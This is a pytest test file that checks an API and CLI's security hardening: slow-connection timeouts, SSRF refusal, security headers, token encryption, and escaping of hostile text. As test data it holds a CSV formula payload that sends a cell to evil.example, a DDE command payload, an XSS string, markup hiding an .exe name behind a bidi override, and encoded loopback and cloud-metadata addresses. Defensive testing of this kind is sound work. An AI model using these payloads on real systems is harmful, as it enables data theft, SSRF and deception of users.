"""Issue 24 ("Hardening, round 2"), items 2 to 13, against the real API process where it matters
(item 1, bounded JSON, is tests/worker/test_jsonsafe.py)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import socket
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis
from starlette.testclient import TestClient

from scheduler.api.app import create_app
from simulator.server import SimulatorServer
from tests.conftest import API_TOKEN, ApiStack
from tests.procs import wait_for
from tests.scheduler.api.test_routes import put_account
from worker.settings import Settings
from worker.store.keys import Keys

TEXT = {"kind": "text", "text": "x"}


@pytest.fixture
def slow_body_stack(redis_url: str, sim: SimulatorServer, tmp_path: Path) -> Iterator[ApiStack]:
    s = ApiStack(redis_url, sim, tmp_path, BROADCAST_BODY_TIMEOUT_S="2", BROADCAST_MAX_CONCURRENT_UPLOADS="2")
    yield s
    s.stop()


def trickle(stack: ApiStack, path: str, *, token: str | None, content_type: str = "application/json") -> socket.socket:
    """A connection that announces a 1 MB body and sends its first bytes only."""
    conn = socket.create_connection(("127.0.0.1", stack.api_port))
    conn.settimeout(60)
    auth = f"Authorization: Bearer {token}\r\n" if token else ""
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\n{auth}Content-Type: {content_type}\r\nContent-Length: 1000000\r\n\r\n"
    conn.sendall(head.encode() + (b"--x\r\n" if content_type.startswith("multipart/") else b"{"))
    return conn


def answer(conn: socket.socket) -> tuple[int, str]:
    data = b""
    while b"\r\n\r\n" not in data or not data.rstrip().endswith(b"}"):
        chunk = conn.recv(65536)
        if not chunk:
            break
        data += chunk
    conn.close()
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body.decode()


# --- 2. strangers take no submission slot; a body has a time limit -----------------------------------------


@pytest.mark.e2e
def test_strangers_take_no_slot_and_a_trickled_body_is_cut(slow_body_stack: ApiStack) -> None:
    stack = slow_body_stack
    put_account(stack, "gw", "gewe", f"inst-{stack.prefix}")
    multipart = "multipart/form-data; boundary=x"
    strangers = [trickle(stack, "/v1/campaigns/upload", token=None, content_type=multipart) for _ in range(2)]
    for conn in strangers:  # answered at once, the body still missing (it used to wait for the body)
        status, body = answer(conn)
        assert status == 401 and "unauthorized" in body, body
    campaign = {"name": "c", "account": "gw", "message": TEXT, "recipients": [{"to": "wxid_a"}]}
    accepted = stack.http.post("/v1/campaigns", json=campaign)
    assert accepted.status_code == 202, accepted.text  # was 503 busy while strangers trickled

    # a viewer's key is known but may not upload: 403 at once, no slot taken, no body read
    viewer = stack.http.post("/v1/keys", json={"name": f"v-{stack.prefix}", "role": "viewer"}).json()["key"]
    lookers = [trickle(stack, "/v1/campaigns/upload", token=viewer, content_type=multipart) for _ in range(2)]
    for conn in lookers:
        status, body = answer(conn)
        assert status == 403 and "operator" in body, body
    # the audit records a request after its answer is sent (scheduler/api/audit.py): wait for both records
    viewers_audit = lambda: stack.http.get("/v1/audit", params={"key": f"v-{stack.prefix}"}).json()["items"]  # noqa: E731
    with contextlib.suppress(TimeoutError):
        wait_for(lambda: len(viewers_audit()) >= 2, timeout=10, what="both refusals in the audit")
    audit = viewers_audit()
    assert [e["status"] for e in audit] == [403, 403], audit  # refused at the door, still on the record
    assert stack.http.post("/v1/campaigns", json={**campaign, "name": "after viewers"}).status_code == 202

    # an operator's own slow body holds its slot only until the body timeout, and one key holds one of the
    # two slots at most: its second slow body is refused at once
    slow = [trickle(stack, "/v1/campaigns", token=API_TOKEN) for _ in range(2)]
    (cut, cut_body), (refused, refused_body) = sorted(answer(conn) for conn in slow)
    assert refused == 503 and "this key" in json.loads(refused_body)["error"]["message"], refused_body
    assert cut == 408 and json.loads(cut_body)["error"]["code"] == "body_timeout", cut_body
    again = stack.http.post("/v1/campaigns", json={**campaign, "name": "again"})
    assert again.status_code == 202, again.text


# --- 6. /metrics needs the token unless made public ------------------------------------------------------


def app_client(redis_url: str, **settings: object) -> TestClient:
    config = Settings(
        redis_url=redis_url,
        key_prefix=f"m{uuid.uuid4().hex[:8]}",
        api_token=API_TOKEN,
        **settings,  # type: ignore[arg-type]
    )
    return TestClient(create_app(config, client=redis.Redis.from_url(redis_url)))


def test_metrics_need_the_token_unless_public(redis_url: str) -> None:
    private = app_client(redis_url)
    refused = private.get("/metrics")
    assert refused.status_code == 401 and "broadcast_" not in refused.text
    assert private.get("/metrics", headers={"Authorization": f"Bearer {API_TOKEN}"}).status_code == 200
    assert private.get("/healthz").status_code == 200
    public = app_client(redis_url, metrics_public=True)
    assert public.get("/metrics").status_code == 200


# --- 3 and 9. the CLI prints what is not ours as text, hidden characters escaped ------------------------------

HOSTILE = "[/oops] [link=http://evil.example]click[/link] [bold red]x invoice\u202egnp.exe\u200b"


@pytest.fixture
def screen(monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    """What the CLI's stdout console shows, on a wide terminal that would render hyperlinks."""
    from rich.console import Console

    from scheduler.cli import render

    out = io.StringIO()
    monkeypatch.setattr(render, "console", Console(file=out, width=400, force_terminal=True, color_system=None))
    yield out


def test_every_cli_view_prints_hostile_text_as_text(screen: io.StringIO) -> None:
    from scheduler.cli import account, campaign, deadletter, message, schedule

    campaign_ = {
        "id": "c1", "name": HOSTILE, "status": "paused", "pause_reason": HOSTILE, "total": 1,
        "counts": {"sent": 0, "dead": 1, "cancelled": 0}, "accounts": [HOSTILE],
        "tests": {"count": 1, "jobs": [{"id": "j1", "to": HOSTILE, "account": "a", "status": "sent"}]},
    }  # fmt: skip
    account_ = {
        "id": "a", "vendor": "gewe", "base_url": "http://x", "instance": HOSTILE, "status": "down",
        "status_reason": HOSTILE, "holds": {"miniprogram": {"until": 1, "reason": HOSTILE}}, "options": {"k": HOSTILE},
    }  # fmt: skip
    history = [{"n": 1, "started": 1, "outcome": "dead", "error_class": "permanent", "error": HOSTILE}]
    job = {"id": "j1", "status": "dead", "reason": HOSTILE, "to": HOSTILE, "history": history}
    schedule_ = {"id": "s1", "name": HOSTILE, "cron": "* * * * *", "timezone": "UTC", "message": TEXT, "note": HOSTILE}
    views = [
        (campaign._print_campaigns, [campaign_]), (campaign._print_campaign, campaign_),
        (account._print_accounts, [account_]), (account._print_account, account_),
        (schedule._print_schedules, [schedule_]), (schedule._print_schedule, schedule_),
        (deadletter._print_dead_letter, {**job, "error": HOSTILE}), (message._print_message, job),
    ]  # fmt: skip
    for view, data in views:
        screen.seek(0)
        screen.truncate()
        view(data)  # type: ignore[operator]
        shown = screen.getvalue()
        assert "[/oops]" in shown and "[link=http://evil.example]" in shown, (view, shown)
        assert "\x1b]8;" not in shown, (view, shown)  # no terminal hyperlink
        assert "invoice\\u202Egnp.exe\\u200B" in shown and "\u202e" not in shown, (view, shown)


def test_json_output_stays_exact_with_hidden_characters_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    from scheduler.cli.render import print_json

    print_json({"name": HOSTILE})
    out = capsys.readouterr().out
    assert "\u202e" not in out and json.loads(out) == {"name": HOSTILE}


# --- 4. CSV exports do not run formulas; JSONL stays exact ----------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A2, "details")'


def test_csv_cells_that_start_a_formula_are_neutralised_and_jsonl_is_exact() -> None:
    from scheduler.api.exports import export_deliveries

    texts = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "-5", "ok = fine"]
    items = [
        {"id": f"j{n}", "to": text, "account": "a", "status": "dead", "attempts": 1, "result": {"new_msg_id": "-5"},
         "vendor": "gewe", "sent_at": None, "reason": "permanent", "error": text, "recall": None, "recall_error": None}
        for n, text in enumerate(texts)
    ]  # fmt: skip

    class Deliveries:
        def deliveries(self, cid: str, **_: object) -> tuple[list[dict[str, object]], None]:
            return items, None

    def export(fmt: str) -> str:
        chunks = export_deliveries(Deliveries(), "c1", status=None, fmt=fmt, timezone_of=lambda _: "UTC")  # type: ignore[arg-type]
        return "".join(chunks)

    rows = list(csv.DictReader(io.StringIO(export("csv"))))
    expected = ["'" + t for t in texts[:6]] + ["-5", "ok = fine"]
    assert [r["error"] for r in rows] == expected and [r["to"] for r in rows] == expected
    assert {r["new_msg_id"] for r in rows} == {"-5"}
    assert [json.loads(line)["error"] for line in export("jsonl").splitlines()] == texts


# --- 5. base_url: no query or fragment; loopback and link-local refused in prod; a bounded answer ------------


def test_a_base_url_with_a_query_or_fragment_is_refused() -> None:
    from pydantic import ValidationError

    from worker.store.accounts import AccountSpec

    for url in ("http://vendor.example/api?", "http://vendor.example/api?x=1", "http://vendor.example/api#top"):
        with pytest.raises(ValidationError, match="query"):
            AccountSpec(vendor="gewe", base_url=url, instance="i")
    assert AccountSpec(vendor="gewe", base_url="http://vendor.example/api/", instance="i").base_url.endswith("/api")


def test_vendor_calls_never_reach_loopback_or_link_local_in_prod(sim: SimulatorServer) -> None:
    import httpx

    from worker.runtime.connections import VendorNetwork, new_vendor_http_client

    prod = VendorNetwork.from_settings(Settings())
    for host in ("169.254.169.254", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::1]", "::ffff:127.0.0.1"):
        assert prod.literal_refused(host), host
    assert prod.literal_refused("localhost") and not prod.literal_refused("vendor.example")
    assert not prod.literal_refused("203.0.113.5")
    assert not VendorNetwork.from_settings(Settings(env="dev")).literal_refused("127.0.0.1")  # off in dev
    assert not VendorNetwork.from_settings(Settings(vendor_allow="127.0.0.1/32")).literal_refused("127.0.0.1")

    before = httpx.get(f"{sim.url}/_sim/sends").json()
    port = sim.url.rsplit(":", 1)[1]
    with new_vendor_http_client(Settings()) as client:
        for host in ("127.0.0.1", "localhost", "2130706433"):
            with pytest.raises(httpx.ConnectError, match="may not reach"):
                client.post(f"http://{host}:{port}/gewe/v2/api/message/postText", json={})
    assert httpx.get(f"{sim.url}/_sim/sends").json() == before
    with new_vendor_http_client(Settings(vendor_allow="127.0.0.0/8")) as client:
        assert client.get(f"http://127.0.0.1:{port}/_sim/sends").status_code == 200


@pytest.mark.e2e
def test_the_api_refuses_a_metadata_address_for_an_account(
    redis_url: str, sim: SimulatorServer, tmp_path: Path
) -> None:
    stack = ApiStack(redis_url, sim, tmp_path, BROADCAST_VENDOR_ALLOW="")
    try:
        for url in ("http://169.254.169.254/latest", "http://0xa9fea9fe/", "http://[::1]:80/x"):
            body = {"vendor": "gewe", "base_url": url, "token": "t", "instance": "i"}
            refused = stack.http.put("/v1/accounts/meta", json=body)
            assert refused.status_code == 422 and refused.json()["error"]["field"] == "base_url", refused.text
        assert stack.accounts.get("meta") is None
    finally:
        stack.stop()


def test_a_vendor_answer_past_the_limit_is_not_read_whole() -> None:
    import httpx
    import respx

    from worker.errors import AmbiguousError
    from worker.messages import TextMessage
    from worker.vendors import VendorAccount, backend_for
    from worker.vendors.base import MAX_ANSWER_BYTES

    account = VendorAccount(vendor="gewe", base_url="http://vendor.invalid/gewe/v2/api", token="t", instance="i")  # type: ignore[arg-type]
    huge = b'{"ret": 200, "data": {}, "pad": "' + b"x" * (MAX_ANSWER_BYTES + 1) + b'"}'
    with respx.mock() as router, httpx.Client() as client:
        router.post("http://vendor.invalid/gewe/v2/api/message/postText").respond(200, content=huge)
        with pytest.raises(AmbiguousError, match="over 1048576 bytes"):
            backend_for(account, client).send("wxid_a", TextMessage(text="x"))


# --- 7. security headers on every page ------------------------------------------------------------------------


def test_every_page_has_a_csp_that_forbids_framing_and_nosniff(redis_url: str) -> None:
    client = app_client(redis_url)
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    for path in ("/console", "/console/static/index.html", "/console/static/console.js", "/docs", "/redoc",
                 "/openapi.json", "/healthz", "/v1/campaigns", "/metrics", "/nowhere"):  # fmt: skip
        response = client.get(path, headers=auth)
        assert response.headers.get("x-content-type-options") == "nosniff", path
        assert "frame-ancestors 'none'" in response.headers.get("content-security-policy", ""), path
    assert "script-src 'self';" in client.get("/console/static/index.html").headers["content-security-policy"]
    assert client.get("/v1/campaigns").headers["x-content-type-options"] == "nosniff"  # a 401 too


# --- 10, 11, 12. ids '.' and '..'; mentions are wxids; a recalled campaign's refusal says what it is ------------


def test_account_ids_dot_and_dot_dot_are_refused(redis_url: str) -> None:
    from worker.errors import ConfigError
    from worker.store.accounts import AccountSpec, AccountStore

    store = AccountStore(redis.Redis.from_url(redis_url, decode_responses=True), f"h{uuid.uuid4().hex[:8]}")
    spec = AccountSpec(vendor="gewe", base_url="http://vendor.example", instance="i")
    for account_id in (".", ".."):
        with pytest.raises(ConfigError, match=r"not be '\.' or '\.\.'"):
            store.put(account_id, spec)
    assert store.put("a.b", spec).id == "a.b"


def test_mentions_must_be_wechat_ids() -> None:
    from pydantic import ValidationError

    from worker.messages import TextMessage

    with pytest.raises(ValidationError, match="not a WeChat id"):
        TextMessage(text="x", mentions=["<img src=x onerror=alert(1)>"])
    assert TextMessage(text="x", mentions=["wxid_a", "123@chatroom"]).mentions == ["wxid_a", "123@chatroom"]


def test_resuming_a_recalled_finished_campaign_says_it_is_finished(redis_url: str) -> None:
    from scheduler.intake.campaigns import Campaigns, CampaignStateError
    from tests.worker.store.test_recall import send_all
    from worker.store.accounts import AccountSpec, AccountStore
    from worker.store.ledger import Ledger

    ledger = Ledger(redis.Redis.from_url(redis_url, decode_responses=True), f"h{uuid.uuid4().hex[:8]}")
    accounts = AccountStore(ledger.redis, ledger.prefix)
    accounts.put("gw", AccountSpec(vendor="gewe", base_url="http://vendor.example", instance="i"))
    campaigns = Campaigns(ledger, accounts, max_recipients=10)
    cid = campaigns.create(
        name="c", message={"kind": "text", "text": "hi"}, account="gw", recipients=[{"to": "wxid_a"}]
    ).id
    send_all(ledger, "gw")
    assert campaigns.recall(cid, window_s=110)["status"] == "finished"
    with pytest.raises(CampaignStateError, match="cannot resume a campaign that is finished and recalled"):
        campaigns.set_status(cid, "resume")


# --- 13. vendor tokens encrypted at rest -----------------------------------------------------------------------


def test_tokens_are_sealed_at_rest_old_ones_read_and_keys_rotate(redis_url: str) -> None:
    from cryptography.fernet import Fernet

    from worker.store.accounts import AccountSpec, AccountStore

    client = redis.Redis.from_url(redis_url, decode_responses=True)
    prefix = f"k{uuid.uuid4().hex[:8]}"
    old_key, new_key = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    spec = AccountSpec(vendor="gewe", base_url="http://vendor.example", instance="i", token="tok-SECRET-1")  # type: ignore[arg-type]

    AccountStore(client, prefix, secret_keys=[]).put("plain", spec)  # stored before encryption existed
    store = AccountStore(client, prefix, secret_keys=[old_key])
    store.put("sealed", spec)
    raw = client.hget(Keys(prefix).account("sealed"), "token") or ""
    assert raw.startswith("enc1:") and "tok-SECRET-1" not in raw
    for account_id in ("plain", "sealed"):
        assert store.get(account_id).spec.token.get_secret_value() == "tok-SECRET-1"  # type: ignore[union-attr]

    assert store.reseal() == 1  # the plain one
    assert "tok-SECRET-1" not in str(client.hgetall(Keys(prefix).account("plain")))

    rotating = AccountStore(client, prefix, secret_keys=[new_key, old_key])  # BROADCAST_SECRET_KEY=new,old
    assert rotating.get("sealed").spec.token.get_secret_value() == "tok-SECRET-1"  # type: ignore[union-attr]
    assert rotating.reseal() == 2 and rotating.reseal() == 0
    only_new = AccountStore(client, prefix, secret_keys=[new_key])
    for account_id in ("plain", "sealed"):
        assert only_new.get(account_id).spec.token.get_secret_value() == "tok-SECRET-1"  # type: ignore[union-attr]
    lost = AccountStore(client, prefix, secret_keys=[old_key]).get("sealed")
    assert lost is not None and not lost.public()["token_set"]  # no key opens it: shown as not set, never raw


@pytest.mark.e2e
def test_a_worker_sends_with_a_token_sealed_by_the_api(redis_url: str, sim: SimulatorServer, tmp_path: Path) -> None:
    from cryptography.fernet import Fernet

    stack = ApiStack(redis_url, sim, tmp_path, BROADCAST_SECRET_KEY=Fernet.generate_key().decode())
    try:
        put_account(stack, "gw", "gewe", f"inst-{stack.prefix}")
        raw = stack.redis.hget(Keys(stack.prefix).account("gw"), "token") or ""
        assert raw.startswith("enc1:") and f"tok-inst-{stack.prefix}-secret" not in raw
        stack.start_worker()
        stack.start("scheduler")
        job = stack.http.post("/v1/messages", json={"account": "gw", "to": "wxid_sealed", "message": TEXT}).json()["id"]
        (done,) = stack.wait_terminal([job])
        assert done.state == "sent", done  # the simulator took the token the worker opened
    finally:
        stack.stop()


@pytest.mark.e2e
def test_a_connection_that_never_sends_a_whole_head_is_closed(
    redis_url: str, sim: SimulatorServer, tmp_path: Path
) -> None:
    """Idle connections, or ones dribbling part of a head, are closed after BROADCAST_HEAD_TIMEOUT_S: they
    cannot pile up until the API has no file descriptor left. A request that does come in is answered."""
    stack = ApiStack(redis_url, sim, tmp_path, BROADCAST_HEAD_TIMEOUT_S="1")
    try:
        host, port = stack.api_url.removeprefix("http://").split(":")
        silent = socket.create_connection((host, int(port)), timeout=10)
        partial = socket.create_connection((host, int(port)), timeout=10)
        partial.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        assert silent.recv(1) == b"" and partial.recv(1) == b""  # closed by the server, nothing answered
        with socket.create_connection((host, int(port)), timeout=10) as whole:
            whole.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            assert whole.recv(65536).startswith(b"HTTP/1.1 200")
        # pipelined requests whose answers are never read: dropped once writing stalled 3 heads' deadlines
        asked = 300
        with socket.socket() as reader:
            reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            reader.connect((host, int(port)))
            reader.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * asked)
            time.sleep(6)
            received = b""
            with contextlib.suppress(ConnectionResetError):
                while chunk := reader.recv(1 << 20):
                    received += chunk
        assert received.count(b"HTTP/1.1 200") < asked  # the rest was dropped with the connection
        silent.close()
        partial.close()
    finally:
        stack.stop()
